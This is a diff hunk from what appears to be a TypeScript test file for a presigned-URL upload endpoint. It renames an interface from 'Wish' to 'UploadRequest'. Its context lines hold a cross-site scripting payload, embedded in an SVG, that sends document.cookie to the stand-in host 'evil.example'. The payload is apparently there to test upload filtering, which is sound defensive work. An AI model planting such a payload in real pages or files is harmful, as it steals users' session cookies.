@@ -19,19 +19,19 @@ const joined = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((part) 
 const SCRIPT = '<script>fetch("//evil.example?" + document.cookie)</script>'
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`
 
-interface Wish {
+interface UploadRequest {
   name?: string
   type?: string
   size?: number
 }
 
-const ask = ({ name = 'a.png', type = 'image/png', size = PNG.length }: Wish = {}) =>
+const ask = ({ name = 'a.png', type = 'image/png', size = PNG.length }: UploadRequest = {}) =>
   test.call('getGenericPresignedUrl', {
     as: ada,
     body: { file_name: name, content_type: type, media_args: { size_bytes: size } },
   })
 
-async function reserve(wish: Wish = {}) {
+async function reserve(wish: UploadRequest = {}) {
   const { status, body } = await ask(wish)
   expect(status).toBe(200)
   const { presigned_url: url, media: made } = body as { presigned_url: string; media: { id: string } }
